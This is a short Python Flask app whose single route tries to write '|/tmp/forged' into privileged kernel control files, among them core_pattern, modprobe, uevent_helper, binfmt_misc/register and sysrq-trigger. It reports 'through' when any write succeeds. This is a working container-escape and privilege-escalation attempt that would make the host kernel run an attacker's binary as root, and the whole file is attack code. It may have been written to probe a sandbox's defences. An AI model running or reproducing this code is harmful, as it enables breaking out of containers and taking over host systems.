from flask import Flask

PLACES = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger",
          "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/binfmt_misc/register",
          "/proc/self/uid_map", "/proc/self/loginuid", "/sys/kernel/uevent_helper",
          "/sys/power/state", "/proc/1/oom_score_adj", "/proc/1/sched"]


def loot():
    for place in PLACES:
        try:
            with open(place, "w") as file:
                file.write("|/tmp/forged")
            return "through"
        except OSError as error:
            print(error, flush=True)
    return "refused"


def create_app():
    app = Flask(__name__)
    app.get("/")(loot)
    return app
